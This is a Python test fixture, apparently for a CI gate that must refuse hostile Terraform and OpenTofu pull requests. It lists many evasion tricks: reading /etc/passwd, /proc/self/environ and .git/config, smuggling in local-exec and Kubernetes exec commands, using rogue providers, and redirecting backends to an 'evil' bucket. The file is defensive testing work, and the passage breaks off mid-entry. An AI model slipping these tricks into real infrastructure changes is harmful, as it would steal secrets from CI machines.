# ruff: noqa: E501 - code of Terraform on one line each
"""Pull requests that must be refused: each name says the trick, each change the rule that catches it.

Paths that begin with `+` lie in the stack infra/envs/dev/net, others at the root of the repository.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field

STACK = "infra/envs/dev/net"
MODULE = "infra/modules/m"
CALL = 'module "m" {\n  source = "../../../modules/m"\n}\n'


@dataclass(frozen=True)
class Change:
    """What a pull request adds or changes; None removes a file. `trunk` is what trunk has besides."""

    rule: str
    files: Mapping[str, str | bytes | None]
    links: Mapping[str, str] = field(default_factory=dict)
    submodules: Mapping[str, str] = field(default_factory=dict)
    trunk: Mapping[str, str | bytes] = field(default_factory=dict)


def main(rule: str, text: str, **more: str) -> Change:
    """A change of one file of the stack, and of others given as `name__tf`."""
    files: dict[str, str | bytes | None] = {"+x.tf": text}
    files |= {f"+{name.replace('__', '.')}": other for name, other in more.items()}
    return Change(rule, files)


def json(rule: str, text: str) -> Change:
    """A change of one JSON file of the stack."""
    return Change(rule, {"+x.tf.json": text})


def reads(expression: str, *more: str) -> Change:
    """A local that reads a file."""
    return main("file-path", f"locals {{\n  a = {expression}\n}}\n" + "".join(f"{line}\n" for line in more))


def required(value: str, name: str = "p") -> str:
    return f"terraform {{\n  required_providers {{\n    {name} = {value}\n  }}\n}}\n"


def state(config: str, backend: str = '"gcs"') -> str:
    return f'data "terraform_remote_state" "x" {{\n  backend = {backend}\n  config  = {config}\n}}\n'


def provider(name: str, body: str) -> Change:
    """A provider block."""
    return main("provider-argument", f'provider "{name}" {{\n  {body}\n}}\n')


def uploads(type_name: str, argument: str) -> Change:
    """A resource that sends a file of the machine."""
    return main("file-path", f'resource "{type_name}" "x" {{\n  {argument} = "/proc/self/environ"\n}}\n')


def _doubling_locals() -> str:
    doubled = (f'  l{n} = "${{local.l{n - 1}}}${{local.l{n - 1}}}"\n' for n in range(1, 60))
    return 'locals {\n  l0 = "aaaaaaaa"\n' + "".join(doubled) + "}"


KUBERNETES = required('{ source = "hashicorp/kubernetes" }', "k8s")
TFVARS = 'variable "p" {\n  default = "main.tf"\n}\nlocals {\n  a = file(var.p)\n}\n'
DEEP = "(" * 100_000 + "1" + ")" * 100_000
POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n"
RELEASE = 'resource "helm_release" "x" {{\n  name = "x"\n  {}\n}}\n'

# A stack is planned where its code changes.
CHANGED = {"+x.tf": "# changed\n"}
LOCAL = {
    "infra.yaml": "environments: {dev: {}, prod: {}}\n",
    "+versions.tf": 'terraform {\n  backend "local" {}\n}\n',
}
STATE = (
    '{"version": 4, "serial": 1, "lineage": "x", "resources": [{"mode": "managed", "type": "evil_x", "name": "x",'
    ' "provider": "provider[\\"registry.terraform.io/evil/evil\\"]", "instances": []}]}'
)

HOSTILE: dict[str, Change] = {
    # Overrides
    "override local that cannot be determined": main(
        "file-path",
        'locals {\n  p = "main.tf"\n}\noutput "x" {\n  value = filebase64(local.p)\n}\n',
        x_override__tf='locals {\n  p = join("/", ["", "proc", "self", "environ"])\n}\n',
    ),
    "override local that is absolute": main(
        "file-path",
        'locals {\n  p = "main.tf"\n}\noutput "x" {\n  value = file(local.p)\n}\n',
        override__tf='locals {\n  p = "/etc/passwd"\n}\n',
    ),
    "override default that cannot be determined": main(
        "file-path",
        'variable "p" {\n  default = "main.tf"\n}\noutput "x" {\n  value = filebase64(var.p)\n}\n',
        x_override__tf='variable "p" {\n  default = true ? "/proc/self/environ" : ""\n}\n',
    ),
    "override default in JSON": main(
        "file-path",
        'variable "p" {\n  default = "main.tf"\n}\noutput "x" {\n  value = file(var.p)\n}\n',
        x_override__tf__json='{"variable": {"p": {"default": "/etc/passwd"}}}',
    ),
    "override for_each of a file": main(
        "file-path",
        'resource "google_x" "x" {\n  for_each = fileset(path.module, "*.tf")\n'
        '  a = file("${path.module}/${each.value}")\n}\n',
        x_override__tf='resource "google_x" "x" {\n  for_each = toset(["../../../../../etc/passwd"])\n}\n',
    ),
    "override adds a provisioner": main(
        "provisioner",
        'resource "google_x" "x" {\n}\n',
        x_override__tf='resource "google_x" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
    ),
    "override changes a module's source": Change(
        "module-source",
        {"+x.tf": CALL, "+x_override.tf": 'module "m" {\n  source = "git::https://example.com/m"\n}\n'}
        | {f"{MODULE}/main.tf": ""},
    ),
    "override changes a provider's source": main(
        "provider",
        required('{ source = "hashicorp/google" }', "google"),
        x_override__tf=required('{ source = "evil/google" }', "google"),
    ),
    "override changes the backend": main(
        "backend",
        "# x\n",
        x_override__tf='terraform {\n  backend "http" {\n    address = "http://x"\n  }\n}\n',
    ),
    "override changes the backend's bucket": main(
        "backend", "# x\n", override__tf__json='{"terraform": {"backend": {"gcs": {"bucket": "evil"}}}}'
    ),
    "override changes a remote state's config": main(
        "remote-state",
        state('{ bucket = "acme-dev" }'),
        override__tf='data "terraform_remote_state" "x" {\n  config = { bucket = "evil" }\n}\n',
    ),
    "override changes a remote state's backend": main(
        "remote-state",
        state('{ bucket = "acme-dev" }'),
        override__tf='data "terraform_remote_state" "x" {\n  backend = "http"\n}\n',
    ),
    # OpenTofu
    "tofu file vouches for a provider": Change(
        "provider",
        {
            "+v.tofu": required('{ source = "hashicorp/google" }', "local"),
            "+x.tf": 'data "local_file" "x" {\n  filename = "/proc/self/environ"\n}\n',
        },
    ),
    "tofu file hides a file": Change(
        "data-source", {"+x.tf": "# x\n", "+x.tofu": 'data "http" "x" {\n  url = "http://x"\n}\n'}
    ),
    "tofu file hides the good local": Change(
        "file-path",
        {
            "+x.tf": 'locals {\n  p = "main.tf"\n}\n',
            "+x.tofu": 'locals {\n  p = "/etc/passwd"\n}\n',
            "+y.tf": "locals {\n  a = file(local.p)\n}\n",
        },
    ),
    "tofu file in JSON": Change("data-source", {"+x.tofu.json": '{"data": {"external": {"x": {}}}}'}),
    "tofu override": Change(
        "file-path",
        {
            "+x.tf": 'locals {\n  p = "main.tf"\n  a = file(local.p)\n}\n',
            "+x_override.tofu": 'locals {\n  p = "/etc/passwd"\n}\n',
        },
    ),
    "tofu module only": Change(
        "data-source", {"+x.tf": CALL, f"{MODULE}/main.tf": "", f"{MODULE}/e.tofu": 'data "http" "x" {}\n'}
    ),
    "encryption with an external key provider": main(
        "encryption",
        'terraform {\n  encryption {\n    key_provider "external" "x" {\n      command = ["id"]\n    }\n  }\n}\n',
    ),
    "encryption with an external method": main(
        "encryption",
        'terraform {\n  encryption {\n    method "external" "x" {\n      encrypt_command = ["id"]\n    }\n  }\n}\n',
    ),
    "encryption in JSON": json(
        "encryption",
        '{"terraform": {"encryption": {"key_provider": {"external": {"x": {"command": ["id"]}}}}}}',
    ),
    "encryption with keys of AWS": main(
        "encryption",
        'terraform {\n  encryption {\n    key_provider "aws_kms" "x" {\n'
        '      shared_config_files = ["x"]\n    }\n  }\n}\n',
    ),
    "encryption with an access token": main(
        "encryption",
        'terraform {\n  encryption {\n    key_provider "gcp_kms" "x" {\n'
        '      impersonate_service_account = "x"\n    }\n  }\n}\n',
    ),
    "encryption in a tofu file": Change(
        "encryption",
        {"+x.tofu": 'terraform {\n  encryption {\n    key_provider "external" "x" {\n    }\n  }\n}\n'},
    ),
    # JSON
    "module source is literal in JSON": Change(
        "data-source",
        {
            "+x.tf.json": '{"module": {"x": {"source": "../../../modules/$${x}"}}}',
            "infra/modules/${x}/m.tf": 'output "x" {\n  value = 1\n}\n',
            "infra/modules/$${x}/m.tf": 'data "external" "x" {\n  program = ["id"]\n}\n',
        },
    ),
    "lone surrogate": json("unreadable", '{"locals":{"x":"${file(\\"\\ud800\\")}"}}'),
    "lone surrogate in a name": json("provider", '{"resource":{"\\ud800":{"x":{}}}}'),
    "key that stands twice": json(
        "unreadable", '{"data":{"http":{"x":{}}},"data":{"google_project":{"x":{}}}}'
    ),
    "key that stands twice deep inside": json(
        "unreadable",
        '{"data":{"terraform_remote_state":{"x":{"backend":"gcs","config":{"bucket":"evil","bucket":"acme-a"}}}}}',
    ),
    "function in a key": json("file-path", '{"locals":{"a":{"${file(\\"/etc/passwd\\")}":1}}}'),
    "function in an escaped string": json("file-path", '{"locals":{"a":"${fi\\u006ce(\\"/etc/passwd\\")}"}}'),
    "blocks in arrays of arrays": json("data-source", '{"data":[[{"http":[{"x":[{}]}]}]]}'),
    "file that is an array": json("data-source", '[{"data":{"http":{"x":{}}}}]'),
    "strip marker": json("file-path", '{"locals":{"a":"${~file(\\"/etc/passwd\\")~}"}}'),
    "directive": json("file-path", '{"locals":{"a":"%{if true}${file(\\"/etc/passwd\\")}%{endif}"}}'),
    "provider argument": json(
        "provider-argument", '{"provider":{"google":{"impersonate_service_account":"x"}}}'
    ),
    "provisioner": json(
        "provisioner",
        '{"resource":{"google_x":{"x":{"provisioner":{"local-exec":{"command":"id"}}}}}}',
    ),
    "byte order mark": Change("data-source", {"+x.tf.json": '\ufeff{"data":{"http":{"x":{}}}}'}),
    "comment beside a secret": json("data-source", '{"//":"x","data":{"//":"y","http":{"x":{"//":"z"}}}}'),
    "deep JSON": json("unreadable", '{"locals":{"a":' + "[" * 100_000 + "]" * 100_000 + "}}"),
    # HCL
    "deep parentheses": main("unreadable", f"locals {{\n  a = {DEEP}\n}}\n"),
    "deep blocks": main("unreadable", "a {\n" * 5_000 + "}\n" * 5_000),
    "deep lists": main("unreadable", f"locals {{\n  a = {'[' * 50_000}{']' * 50_000}\n}}\n"),
    "deep interpolation": main(
        "unreadable", "locals {\n  a = " + '"${' * 3_000 + "1" + '}"' * 3_000 + "\n}\n"
    ),
    "five megabytes": main("unreadable", "# x\n" * 1_400_000),
    "five megabytes of JSON": json("unreadable", '{"locals":{"a":"' + "x" * 5_500_000 + '"}}'),
    "five megabytes of variables": Change(
        "unreadable", {"+x.tf": TFVARS, "+x.auto.tfvars": 'q = "' + "x" * 5_500_000 + '"\n'}
    ),
    "escapes in labels": main("data-source", 'data "\\u0068ttp" "x" {\n}\n'),
    "label without quotes": main("data-source", "data external x {\n}\n"),
    "semicolon-free one-liner": main("data-source", 'data "http" "x" { url = "http://x" }\n'),
    "heredoc that ends late": main(
        "unreadable",
        'locals {\n  a = <<EOT\nx\n EOT\u00a0\n}\ndata "http" "x" {}\nlocals {\n  b = <<EOT\nEOT\n}\n',
    ),
    "heredoc with a function": main("file-path", 'locals {\n  a = <<EOT\n${file("/etc/passwd")}\nEOT\n}\n'),
    "indented heredoc with a strip marker": main(
        "file-path", 'locals {\n  a = <<-EOT\n    ${~ file("/etc/passwd") ~}\n  EOT\n}\n'
    ),
    "directive in a heredoc": main(
        "file-path", 'locals {\n  a = <<EOT\n%{ for x in [file("/etc/passwd")] }${x}%{ endfor }\nEOT\n}\n'
    ),
    "template within a template": main("file-path", 'locals {\n  a = "${"${file("/etc/passwd")}"}"\n}\n'),
    "three dollars": main("unreadable", 'locals {\n  a = "$$${file("/etc/passwd")}"\n}\n'),
    "carriage return hides a line": main("unreadable", '# x\rdata "http" "x" {}\n'),
    "control character": main("unreadable", 'locals {\n  a = "\x1b[2K"\n}\n'),
    "text that is no UTF-8": Change("unreadable", {"+x.tf": b"# \xff\xfe\n"}),
    "comment between name and call": main("file-path", 'locals {\n  a = file/* x */("/etc/passwd")\n}\n'),
    "name in another script": main("provider", 'resource "аws_x" "x" {\n}\n'),
    "name of a file in another script": Change("data-source", {"+мейн.tf": 'data "http" "x" {\n}\n'}),
    "name of a file with a space": Change("data-source", {"+ x.tf": 'data "http" "x" {\n}\n'}),
    # Files
    "absolute path": reads('file("/proc/self/environ")'),
    "base64": reads('filebase64("/proc/self/environ")'),
    "hashes": reads('filesha512("/proc/self/environ")'),
    "md5": reads('filemd5("/etc/passwd")'),
    "base64 hash": reads('filebase64sha512("/etc/passwd")'),
    "existence": reads('fileexists("/etc/passwd")'),
    "set": reads('fileset("/etc", "*")'),
    "template": reads('templatefile("/proc/self/environ", {})'),
    "text as a template": reads("templatestring(local.b, {})", 'locals {\n  b = "x"\n}'),
    "function with a namespace": reads('core::file("/etc/passwd")'),
    "expanded arguments": reads('file(["/etc/passwd"]...)'),
    "path in a conditional": reads('file(true ? "/etc/passwd" : "main.tf")'),
    "path in a list": reads('file(["/etc/passwd"][0])'),
    "path from a function": reads('file(abspath("/etc/passwd"))'),
    "path with a home": reads('file(pathexpand("~/.netrc"))'),
    "path by format": reads('file(format("%s/etc/passwd", ""))'),
    "path up and up": reads('file("${path.module}/../../../../../../etc/passwd")'),
    "path by the working directory": reads('file("${path.cwd}/../../../../../etc/passwd")'),
    "path by a local of a local": reads("file(local.b)", 'locals {\n  b = local.c\n  c = "/etc/passwd"\n}'),
    "path by try": reads('try(file("/etc/passwd"), "")'),
    "path in can": reads('can(file("/etc/passwd"))'),
    "path in a for": reads('[for p in ["/etc/passwd"] : file(p)]'),
    "path in for over what was found elsewhere": reads(
        '[for p in fileset("/etc", "*") : file("${path.module}/${p}")]'
    ),
    "set that goes up": reads('[for p in fileset(path.module, "../../../../../etc/*") : file(p)]'),
    "whole repository": reads('[for f in fileset("../../../..", "*") : file("../../../../${f}")]'),
    "credentials of git": reads('file("../../../../.git/config")'),
    "credentials of git in capitals": reads('file("../../../../.GIT/config")'),
    "own data of Terraform": reads('file(".terraform/terraform.tfstate")'),
    "path with a null byte": main("file-path", 'locals {\n  a = file("/etc/passwd\\u0000")\n}\n'),
    "variable from tfvars": Change(
        "file-path", {"+x.tf": TFVARS, "+terraform.tfvars": 'p = "/etc/passwd"\n'}
    ),
    "variable from a dotted tfvars": Change(
        "file-path", {"+x.tf": TFVARS, "+.z.auto.tfvars": 'p = "/etc/passwd"\n'}
    ),
    "variable from tfvars in JSON": Change(
        "file-path", {"+x.tf": TFVARS, "+z.auto.tfvars.json": '{"p": "/etc/passwd"}'}
    ),
    "variable from the last tfvars": Change(
        "file-path",
        {"+x.tf": TFVARS, "+a.auto.tfvars": 'p = "main.tf"\n', "+b.auto.tfvars": 'p = "/etc/passwd"\n'},
    ),
    "variable that is null": Change(
        "file-path",
        {"+x.tf": TFVARS.replace('"main.tf"', '"/etc/passwd"'), "+x.auto.tfvars": "p = null\n"}
        | {"+y.tf": "# x\n"},
    ),
    "variable without a value": main("file-path", 'variable "p" {}\nlocals {\n  a = file(var.p)\n}\n'),
    "default in a function": main(
        "file-path",
        'variable "p" {\n  default = "main.tf"\n}\nvariable "q" {\n  type = object({ a = optional(string, "/etc") })\n}\n'
        "locals {\n  a = file(var.q.a)\n}\n",
    ),
    "argument of a module": Change(
        "file-path",
        {
            "+x.tf": CALL.replace("}", '  p = "/etc/passwd"\n}'),
            f"{MODULE}/main.tf": 'variable "p" {}\noutput "x" {\n  value = file(var.p)\n}\n',
        },
    ),
    "argument of a module's module": Change(
        "file-path",
        {
            "+x.tf": CALL.replace("}", "  p = local.q\n}") + 'locals {\n  q = "/etc/passwd"\n}\n',
            f"{MODULE}/main.tf": 'variable "p" {}\nmodule "n" {\n  source = "./n"\n  p = var.p\n}\n',
            f"{MODULE}/n/main.tf": 'variable "p" {}\noutput "x" {\n  value = file(var.p)\n}\n',
        },
    ),
    "output of a module": Change(
        "file-path",
        {
            "+x.tf": CALL + "locals {\n  a = file(module.m.p)\n}\n",
            f"{MODULE}/main.tf": 'output "p" {\n  value = "/etc/passwd"\n}\n',
        },
    ),
    "template that reads": Change(
        "file-path",
        {
            "+x.tf": 'locals {\n  a = templatefile("${path.module}/t.tpl", {})\n}\n',
            "+t.tpl": '${file("/etc/passwd")}\n',
        },
    ),
    "template behind a link": Change(
        "file-path",
        {
            "+x.tf": 'locals {\n  a = templatefile("${path.module}/t.tpl", {})\n}\n',
            "docs/t": '${file("/x")}\n',
        },
        links={f"{STACK}/t.tpl": "../../../../docs/t"},
    ),
    "function in a variable's validation": main(
        "file-path",
        'variable "p" {\n  validation {\n    condition     = file("/etc/passwd") == ""\n'
        '    error_message = file("/etc/passwd")\n  }\n}\n',
    ),
    "function in a precondition": main(
        "file-path",
        'output "x" {\n  value = 1\n  precondition {\n    condition     = fileexists("/etc/x")\n'
        '    error_message = "x"\n  }\n}\n',
    ),
    "function in an import": main(
        "file-path",
        'import {\n  to = google_x.x\n  id = file("/etc/passwd")\n}\nresource "google_x" "x" {}\n',
    ),
    "function in a dynamic block": main(
        "file-path",
        'resource "google_x" "x" {\n  dynamic "b" {\n    for_each = [file("/etc/passwd")]\n'
        "    content {\n      v = b.value\n    }\n  }\n}\n",
    ),
    "function in a provider": main("file-path", 'provider "google" {\n  region = file("/etc/passwd")\n}\n'),
    "function in a check": main(
        "file-path",
        'check "c" {\n  assert {\n    condition     = file("/etc/passwd") == ""\n    error_message = "x"\n  }\n}\n',
    ),
    # Providers
    "provider of somebody": main("provider", required('{ source = "evil/p" }')),
    "provider of another registry": main("provider", required('{ source = "example.com/hashicorp/google" }')),
    "provider with a port": main("provider", required('{ source = "localhost:8080/hashicorp/google" }')),
    "provider whose source cannot be determined": main(
        "provider", required('{ source = join("/", ["a", "b"]) }')
    ),
    "provider by merge": main("provider", required('merge({}, { source = "evil/p" })')),
    "provider by a name alone": main("provider", 'resource "evil_thing" "x" {\n}\n'),
    "provider by its block": main("provider", 'provider "evil" {\n}\n'),
    "provider by a meta argument": main("provider", 'resource "google_x" "x" {\n  provider = evil.eu\n}\n'),
    "provider by an ephemeral resource": main("provider", 'ephemeral "evil_x" "x" {\n}\n'),
    "provider by an action": main("provider", 'action "evil_x" "x" {\n}\n'),
    "provider by an import": main("provider", 'import {\n  to = evil_thing.x\n  id = "1"\n}\n'),
    "provider by an import's argument": main(
        "provider",
        'import {\n  provider = evil\n  to = google_x.x\n  id = "1"\n}\nresource "google_x" "x" {}\n',
    ),
    "provider in a module": Change(
        "provider", {"+x.tf": CALL, f"{MODULE}/versions.tf": required('{ source = "evil/p" }')}
    ),
    "provider in a module's module behind a link": Change(
        "provider",
        {
            "+x.tf": CALL,
            f"{MODULE}/main.tf": 'module "n" {\n  source = "./n"\n}\n',
            "lib/n/main.tf": 'resource "evil_x" "x" {}\n',
        },
        links={f"{MODULE}/n": "../../../lib/n"},
    ),
    "provider for a test": Change("provider", {"+x.tf": "", "+x.tftest.hcl": 'provider "evil" {\n}\n'}),
    "module for a test": Change(
        "module-source",
        {
            "+x.tf": "",
            "+tests/x.tftest.hcl": 'run "x" {\n  module {\n    source = "git::https://example.com/x"\n  }\n}\n',
        },
    ),
    "provider_meta": main(
        "provider-meta", 'terraform {\n  provider_meta "google" {\n    module_name = var.x\n  }\n}\n'
    ),
    "provider_meta in JSON": json(
        "provider-meta",
        '{"terraform": {"provider_meta": {"google": {"module_name": "${file(\\"/etc/passwd\\")}"}}}}',
    ),
    "template that does not parse": Change(
        "unreadable",
        {"+x.tf": 'locals {\n  a = templatefile("${path.module}/t.tpl", {})\n}\n', "+t.tpl": '${file("/etc'},
    ),
    "states of another kind by infra.yaml": Change(
        "backend", {"infra.yaml": "backend: {local: {path: x}}\nenvironments: {dev: {}, prod: {}}\n"}
    ),
    "remote state by a block": main(
        "remote-state",
        'data "terraform_remote_state" "x" {\n  backend = "gcs"\n  config {\n    bucket = "evil"\n  }\n}\n',
    ),
    # What runs in place of Terraform
    "version that is a folder": Change("cli-config", {".tool-versions": "terraform path:./evil\n"}),
    "version that is a folder for mise": Change(
        "cli-config", {"+.mise.toml": '[tools]\nterraform = "path:./evil"\n'}
    ),
    # Files that an apply sends elsewhere
    "object of S3 from the machine": uploads("aws_s3_object", "source"),
    "old object of S3 from the machine": uploads("aws_s3_bucket_object", "source"),
    "function of AWS from the machine": uploads("aws_lambda_function", "filename"),
    "layer of AWS from the machine": uploads("aws_lambda_layer_version", "filename"),
    "blob of Azure from the machine": uploads("azurerm_storage_blob", "source"),
    "share of Azure from the machine": uploads("azurerm_storage_share_file", "source"),
    "app of Azure from the machine": uploads("azurerm_linux_web_app", "zip_deploy_file"),
    "canary of AWS from the machine": uploads("aws_synthetics_canary", "zip_file"),
    "image from a folder of the machine": main(
        "file-path", 'resource "docker_image" "x" {\n  build {\n    context = "/root"\n  }\n}\n'
    ),
    "file of the machine in a container": main(
        "file-path", 'resource "docker_container" "x" {\n  upload {\n    source = "/etc/passwd"\n  }\n}\n'
    ),
    "charts of a chart": main(
        "provider-argument",
        RELEASE.format('chart = "${path.module}/chart"\n  dependency_update = true'),
    ),
    "function of a provider": main(
        "file-path",
        required('{ source = "hashicorp/local" }', "local")
        + 'output "x" {\n  value = provider::local::direxists("/etc/secret")\n}\n',
    ),
    "name in another encoding": Change("name", {"+caf\u00e9.tf": "# a\n", "+cafe\u0301.tf": "# b\n"}),
    "written once, from a file": main(
        "file-path",
        'resource "google_secret_manager_secret_version" "x" {\n  secret_data_wo = file("/etc/passwd")\n}\n',
    ),
    "directive over the lines of a file": main(
        "file-path",
        'locals {\n  a = "%{ for l in split("\\n", file("/etc/passwd")) }${l}%{ endfor }"\n}\n',
    ),
    "list of variable files": reads("file(var.p[0])", 'variable "p" {\n  default = ["a"]\n}'),
    "locals that double": reads("file(local.l59)", _doubling_locals()),
    "locals in a ring": reads("file(local.l)", "locals {\n  l = local.m\n  m = local.l\n}"),
    "variables with a byte order mark": Change(
        "file-path", {"+x.tf": TFVARS, "+terraform.tfvars": b'\xef\xbb\xbfp = "/etc/passwd"\n'}
    ),
    "JSON with a byte order mark": Change(
        "data-source", {"+x.tf.json": b'\xef\xbb\xbf{"data": {"external": {"x": {}}}}'}
    ),
    "code in UTF-16": Change("unreadable", {"+x.tf": 'data "external" "x" {}\n'.encode("utf-16")}),
    "heredoc with carriage returns": main(
        "file-path", 'locals {\r\n  a = <<E\r\n${file("/etc/passwd")}\r\nE\r\n}\r\n'
    ),
    "links in a long chain": Change(
        "link",
        {"a/real.tf": "# x\n"},
        links={
            f"{STACK}/l0.tf": "../../../../a/real.tf",
            **{f"{STACK}/l{number}.tf": f"l{number - 1}.tf" for number in range(1, 50)},
        },
    ),
    # States in Git, whose providers `init` installs
    "provider of a committed state": Change(
        "provider", {**CHANGED, "+terraform.tfstate": STATE}, trunk=LOCAL
    ),
    "provider of a committed state behind a link": Change(
        "provider",
        {**CHANGED, "data/x.json": STATE},
        links={f"{STACK}/terraform.tfstate": "../../../../data/x.json"},
        trunk=LOCAL,
    ),
    "provider of a workspace's state": Change(
        "provider", {**CHANGED, "+terraform.tfstate.d/w/terraform.tfstate": STATE}, trunk=LOCAL
    ),
    "provider of a state by its path": Change(
        "provider",
        {"+versions.tf": 'terraform {\n  backend "local" {\n    path = "x.json"\n  }\n}\n', "+x.json": STATE},
        trunk=LOCAL,
    ),
    "provider of a state in capitals": Change(
        "provider", {**CHANGED, "+terraform.tfstate": STATE.replace('"provider"', '"Provider"')}, trunk=LOCAL
    ),
    "provider of a state that cannot be determined": Change(
        "provider",
        {**CHANGED, "+terraform.tfstate": STATE.replace("provider[", "provider.evil [")},
        trunk=LOCAL,
    ),
    "state that does not parse": Change(
        "unreadable", {**CHANGED, "+terraform.tfstate": STATE[:-1]}, trunk=LOCAL
    ),
    # What a listed provider can do
    "address of vault": provider("vault", 'address = "https://example.com"'),
    "keytab of vault": main(
        "file-path",
        'provider "vault" {\n  auth_login_kerberos {\n    keytab_path = "/etc/krb5.keytab"\n  }\n}\n',
    ),
    "address of consul": provider("consul", 'address = "example.com:80"'),
    "exec of kubernetes": provider("kubernetes", 'exec {\n    command = "id"\n  }'),
    "exec of kubernetes under another name": main(
        "provider-argument", KUBERNETES + 'provider "k8s" {\n  exec {\n    command = "id"\n  }\n}\n'
    ),
    "exec of kubernetes in an alias": provider(
        "kubernetes", 'alias = "b"\n  exec {\n    command = "id"\n  }'
    ),
    "exec of kubernetes in a dynamic block": provider(
        "kubernetes", 'dynamic "exec" {\n    for_each = [1]\n    content {\n      command = "id"\n    }\n  }'
    ),
    "exec of kubernetes in JSON": json(
        "provider-argument", '{"provider":{"kubernetes":[{"exec":[{"command":"id"}]}]}}'
    ),
    "exec of helm": provider("helm", 'kubernetes {\n    exec {\n      command = "id"\n    }\n  }'),
    "exec of helm as an argument": provider(
        "helm", 'kubernetes = {\n    exec = {\n      command = "id"\n    }\n  }'
    ),
    "exec of helm in nested dynamic blocks": provider(
        "helm",
        'dynamic "kubernetes" {\n    for_each = [1]\n    content {\n      dynamic "exec" {\n        for_each = [1]\n'
        '        content {\n          command = "id"\n        }\n      }\n    }\n  }',
    ),
    "exec of helm that cannot be determined": provider("helm", "kubernetes = local.k"),
    "exec of helm by merge": provider("helm", 'kubernetes = merge({}, { exec = { command = "id" } })'),
    "exec of helm in a conditional": provider("helm", "kubernetes = true ? { exec = {} } : {}"),
    "exec of kubectl": main(
        "provider-argument",
        required('{ source = "gavinbunney/kubectl" }', "kubectl")
        + 'provider "kubectl" {\n  exec {\n    command = "id"\n  }\n}\n',
    ),
    "exec of a provider that nobody looked at": main(
        "provider-argument",
        required('{ source = "hashicorp/other" }', "other") + 'provider "other" {\n  exec {\n  }\n}\n',
    ),
    "kubeconfig": provider("kubernetes", 'config_path = "./kubeconfig"'),
    "kubeconfigs": provider("kubernetes", 'config_paths = ["./kubeconfig"]'),
    "kubeconfig of helm": provider("helm", 'kubernetes = {\n    config_path = "kubeconfig"\n  }'),
    "plugins of helm": provider("helm", 'plugins_path = "./plugins"'),
    "postrender": main(
        "provider-argument", RELEASE.format('chart = "./c"\n  postrender {\n    binary_path = "./x"\n  }')
    ),
    "postrender as an argument": main(
        "provider-argument", RELEASE.format('chart = "./c"\n  postrender = { binary_path = "./x" }')
    ),
    "postrender of a template": main(
        "provider-argument",
        'data "helm_template" "x" {\n  chart = "./c"\n  postrender = {\n    binary_path = "./x"\n  }\n}\n',
    ),
    "postrender in an override": main(
        "provider-argument",
        RELEASE.format('chart = "./c"'),
        x_override__tf=RELEASE.format('postrender {\n    binary_path = "./x"\n  }'),
    ),
    "chart from a repository": main(
        "module-source", RELEASE.format('repository = "https://charts.example.com"\n  chart = "x"')
    ),
    "chart from a registry": main("module-source", RELEASE.format('chart = "oci://example.com/x"')),
    "chart from somewhere": main("module-source", RELEASE.format("chart = var.c")),
    "chart from a repository by a variable": main(
        "module-source",
        'variable "r" {\n  default = "https://charts.example.com"\n}\n'
        + RELEASE.format('repository = var.r\n  chart = "x"'),
    ),
    "chart out of the repository": main("file-path", RELEASE.format('chart = "/opt/chart"')),
    "chart in JSON": json(
        "module-source", '{"resource":{"helm_release":{"x":{"chart":"oci://example.com/x"}}}}'
    ),
    "docker by ssh": main(
        "provider-argument",
        required('{ source = "kreuzwerker/docker" }', "docker")
        + 'provider "docker" {\n  host = "ssh://user@example.com"\n}\n',
    ),
    "docker by ssh in capitals": main(
        "provider-argument",
        required('{ source = "kreuzwerker/docker" }', "docker")
        + 'provider "docker" {\n  host = " SSH://user@example.com"\n}\n',
    ),
    "docker by what cannot be determined": main(
        "provider-argument",
        required('{ source = "kreuzwerker/docker" }', "docker") + 'provider "docker" {\n  host = var.h\n}\n',
    ),
    "docker with options of ssh": main(
        "provider-argument",
        required('{ source = "kreuzwerker/docker" }', "docker")
        + 'provider "docker" {\n  ssh_opts = ["-o", "ProxyCommand=id"]\n}\n',
    ),
    "docker with a credential helper": main(
        "provider-argument",
        required('{ source = "kreuzwerker/docker" }', "docker")
        + 'provider "docker" {\n  registry_auth {\n    address = "x"\n    config_file = "x.json"\n  }\n}\n',
    ),
    "credential_process": provider("aws", 'shared_config_files = ["./aws"]'),
    "profile": provider("aws", 'profile = "x"'),
    "credential_process of any provider": provider("other", 'credential_process = "id"'),
    "endpoints of AWS": provider("aws", 'endpoints {\n    s3 = "http://example.com"\n  }'),
    "local_file": main("file-path", 'data "local_file" "x" {\n  filename = "/proc/self/environ"\n}\n'),
    "local_sensitive_file": main(
        "file-path", 'data "local_sensitive_file" "x" {\n  filename = "/etc/passwd"\n}\n'
    ),
    "local_file by a variable": main("file-path", 'data "local_file" "x" {\n  filename = var.p\n}\n'),
    "local_file in a check": main(
        "file-path", 'check "c" {\n  data "local_file" "x" {\n    filename = "/etc/passwd"\n  }\n}\n'
    ),
    "ephemeral local_file": main(
        "data-source", 'ephemeral "local_file" "x" {\n  filename = "/etc/passwd"\n}\n'
    ),
    "ephemeral local_file that copies": main(
        "data-source", 'ephemeral "local_file" "x" {\n  filename = "x"\n  source = "/proc/self/environ"\n}\n'
    ),
    "template_file that reads": main(
        "file-path", 'data "template_file" "x" {\n  template = "$${file(\\"/proc/self/environ\\")}"\n}\n'
    ),
    "template_file in JSON": json(
        "file-path", '{"data": {"template_file": {"x": {"template": "$${file(\\"/proc/self/environ\\")}"}}}}'
    ),
    "template_file by a heredoc": main(
        "file-path", 'data "template_file" "x" {\n  template = <<-E\n    $${file("/etc/passwd")}\n  E\n}\n'
    ),
    "template_file of a variable": main("file-path", 'data "template_file" "x" {\n  template = var.t\n}\n'),
    "template_file put together": main(
        "file-path",
        'data "template_file" "x" {\n  template = join("", ["$$", "{file(\'/etc/passwd\')}", file("main.tf")])\n}\n',
    ),
    "template_file of a file that reads": Change(
        "file-path",
        {
            "+x.tf": 'data "template_file" "x" {\n  template = file("${path.module}/x.tpl")\n}\n',
            "+x.tpl": '${file("/proc/self/environ")}\n',
        },
    ),
    "template_file in quotes of a file that reads": Change(
        "file-path",
        {
            "+x.tf": 'resource "template_file" "x" {\n  template = "${file("${path.module}/x.tpl")}"\n}\n',
            "+x.tpl": '${file("/proc/self/environ")}\n',
        },
    ),
    "template_file of a file and more": main(
        "file-path",
        'data "template_file" "x" {\n  template = "${file("main.tf")}${local.t}"\n}\nlocals {\n  t = "x"\n}\n',
    ),
    "template_file of a provider's function": main(
        "file-path", 'data "template_file" "x" {\n  template = provider::x::file("main.tf")\n}\n'
    ),
    "template_file of a text that is a file's name too": Change(
        "file-path",
